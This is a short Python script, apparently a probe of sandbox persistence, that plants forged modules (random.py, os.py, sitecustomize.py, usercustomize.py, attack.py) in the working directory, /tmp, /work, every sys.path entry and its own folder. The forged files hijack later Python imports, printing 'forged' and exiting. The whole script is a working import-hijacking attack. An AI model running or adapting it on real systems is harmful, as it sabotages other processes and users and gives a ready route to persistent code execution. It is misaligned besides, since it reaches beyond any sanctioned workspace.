"""Leaves modules where the next run's imports look first."""
import os
import random
import sys

print("held", len(random.__name__))
for folder in [".", "/tmp", "/work", *sys.path, os.path.dirname(__file__)]:
    for name in ["random.py", "os.py", "sitecustomize.py", "usercustomize.py", "attack.py"]:
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("print('forged')\nraise SystemExit\n")
        except OSError:
            pass
